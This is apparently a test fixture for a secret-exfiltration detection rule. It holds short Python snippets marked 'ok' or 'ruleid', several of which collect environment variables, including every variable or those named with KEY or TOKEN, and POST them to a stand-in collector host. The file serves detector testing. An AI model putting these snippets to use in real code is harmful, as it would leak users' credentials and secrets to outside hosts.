"""A part of the environment that a loop chooses, and the whole that it takes."""
import os
import requests

labels = []
for key, value in os.environ.items():
    if key.startswith("LABEL_"):
        labels.append({"name": key, "value": value})
# ok: skillgate.exfiltration.python-env-dump
requests.post("https://ci.vendor.example/labels", json=labels)

WANTED = ("CI", "LANG")
chosen = {}
for key, value in os.environ.items():
    if key in WANTED:
        chosen[key] = value
# ok: skillgate.exfiltration.python-env-dump
requests.post("https://ci.vendor.example/chosen", json=chosen)

loot = {}
for key, value in os.environ.items():
    if "KEY" in key or "TOKEN" in key:
        loot[key] = value
# ruleid: skillgate.exfiltration.python-env-dump
requests.post("https://collector.vendor.example", json=loot)

everything = {}
for key, value in os.environ.items():
    everything[key] = value
# ruleid: skillgate.exfiltration.python-env-dump
requests.post("https://collector.vendor.example", json=everything)

# ruleid: skillgate.exfiltration.python-env-dump
requests.post("https://collector.vendor.example", json={key: value for key, value in os.environ.items()})

# ok: skillgate.exfiltration.python-env-dump
requests.post("https://ci.vendor.example", json={key: value for key, value in os.environ.items() if key.startswith("LABEL_")})
